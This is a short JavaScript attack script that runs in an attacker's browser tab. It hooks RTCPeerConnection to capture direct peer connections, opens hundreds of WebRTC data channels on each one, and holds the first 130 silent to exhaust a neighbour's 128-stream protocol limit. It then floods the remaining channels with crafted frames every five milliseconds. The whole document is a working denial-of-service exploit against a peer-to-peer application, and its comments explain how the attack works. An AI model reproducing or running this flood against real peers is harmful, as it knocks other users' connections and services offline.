// Runs in the tab of an attacker before the page's own scripts. `heartchainFlood()` opens data channels on every direct
// connection and fills them, for as long as the page is open. The first channels stay silent: a neighbour that waits for
// the protocols of 128 streams accepts no more of them.
(() => {
  const SILENT = 130;
  const CHANNELS = 384;
  const BYTES_A_CHANNEL = 1024 * 1024;
  const PAYLOAD = 8192;
  const FRAMES = 8;

  const connections = [];
  globalThis.RTCPeerConnection = class extends RTCPeerConnection {
    constructor(...options) {
      super(...options);
      connections.push({ connection: this, channels: [] });
    }
  };

  // A frame: its length, the key of the message, and the message's length.
  const frame = new Uint8Array(5 + PAYLOAD);
  frame.set([0x83, 0x40, 0x12, 0x80, 0x40]);
  const message = new Uint8Array(FRAMES * frame.length);
  for (let at = 0; at < FRAMES; at += 1) message.set(frame, at * frame.length);

  function flood({ connection, channels }) {
    if (connection.connectionState !== "connected") return;
    while (channels.length < CHANNELS) {
      const left = channels.length < SILENT ? 0 : BYTES_A_CHANNEL;
      channels.push({ channel: connection.createDataChannel(""), left });
    }
    for (const entry of channels) {
      if (entry.channel.readyState !== "open" || entry.left <= 0 || entry.channel.bufferedAmount > 262_144) continue;
      entry.channel.send(message);
      entry.left -= message.length;
      heartchainFlood.sent += message.length;
    }
  }

  globalThis.heartchainFlood = () => setInterval(() => connections.forEach(flood), 5);
  heartchainFlood.sent = 0;
})();
